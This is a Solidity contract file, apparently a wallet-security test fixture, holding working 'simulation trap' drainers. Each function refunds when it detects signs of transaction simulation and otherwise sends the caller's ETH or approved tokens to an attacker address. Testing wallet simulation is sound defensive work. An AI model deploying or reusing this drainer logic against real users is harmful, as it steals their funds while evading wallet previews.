// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IERC20Pull {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @title SimTrap — test-only contracts that tell a simulation apart from execution.
/// @notice Each `claim*` takes the caller's ETH (or approved tokens) for `attacker` when the
/// environment looks real, and hands everything back when it looks like a naive simulation
/// (gas price 0, base fee 0, a huge gas allowance, a stale timestamp, no coinbase). A wallet
/// that simulates in the environment the transaction will really see shows the drain.
contract SimTrap {
    address public immutable attacker;
    uint256 public immutable armAt; // claimTimestamp drains from the second after deployment
    bool public armed; // claimUnlessArmed reverts once someone armed the trap

    constructor(address attacker_) {
        attacker = attacker_;
        armAt = block.timestamp + 1;
    }

    function _settle(bool looksSimulated) private {
        if (looksSimulated) {
            payable(msg.sender).transfer(msg.value);
        } else {
            payable(attacker).transfer(msg.value);
        }
    }

    function claimGasPrice() external payable {
        _settle(tx.gasprice == 0);
    }

    function claimBaseFee() external payable {
        _settle(block.basefee == 0);
    }

    function claimGasLeft() external payable {
        bool simulated = gasleft() > 1_000_000;
        if (simulated) {
            // The friendly path costs more, so a gas limit sized from it leaves room for
            // the drain: only a simulation with the signed limit sees which path runs.
            uint256 stop = gasleft() - 30_000;
            while (gasleft() > stop) {}
        }
        _settle(simulated);
    }

    function claimTimestamp() external payable {
        _settle(block.timestamp < armAt);
    }

    function claimCoinbase() external payable {
        _settle(block.coinbase == address(0));
    }

    /// Pulls `amount` of an approved token to the attacker unless the gas price is zero.
    function pullIfPriced(address token, uint256 amount) external {
        if (tx.gasprice != 0) {
            require(IERC20Pull(token).transferFrom(msg.sender, attacker, amount), "pull failed");
        }
    }

    function arm() external {
        armed = true;
    }

    /// Succeeds (keeping the ETH for the attacker) until someone calls `arm()`.
    function claimUnlessArmed() external payable {
        require(!armed, "armed");
        payable(attacker).transfer(msg.value);
    }
}
